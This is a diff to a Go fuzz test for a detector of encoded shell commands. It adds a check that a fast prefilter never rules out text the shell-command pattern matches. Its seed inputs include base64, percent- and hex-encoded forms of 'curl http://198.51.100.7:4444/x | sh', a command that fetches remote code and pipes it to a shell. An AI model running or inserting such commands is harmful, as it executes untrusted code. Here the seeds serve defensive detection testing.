@@ -94,7 +94,8 @@ func scanEveryToken(d *Detector, text string) (found []rawFinding) {
 }
 
 // FuzzScanEncoded: scanEncoded, which skips short tokens and reads a
-// token's first base64 run once, finds what scanEveryToken finds.
+// token's first base64 run once, finds what scanEveryToken finds; and
+// mayMatchShellCommand never rules out a text shellCommand matches.
 func FuzzScanEncoded(f *testing.F) {
 	for _, s := range []string{"Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo", "cfg=Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo==x",
 		"aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=;" + strings.Repeat("x", 40), "%63%75%72%6c%20x%20%7c%20sh", "6375726c20687474703a2f2f",
@@ -117,6 +118,10 @@ func FuzzScanEncoded(f *testing.F) {
 		d.phraseFree(text, &runs)
 		if got := d.scanEncoded(text, nil, &runs); !slices.Equal(got, want) {
 			t.Fatalf("%q after phraseFree (run %v): %v, want %v", text, runs, got, want)
+		}
+		// harmful skips shellCommand where it cannot match.
+		if lower := []byte(strings.ToLower(text)); shellCommand.Match(lower) && !mayMatchShellCommand(lower) {
+			t.Fatalf("%q: a shell command, but mayMatchShellCommand says it cannot be", lower)
 		}
 	})
 }
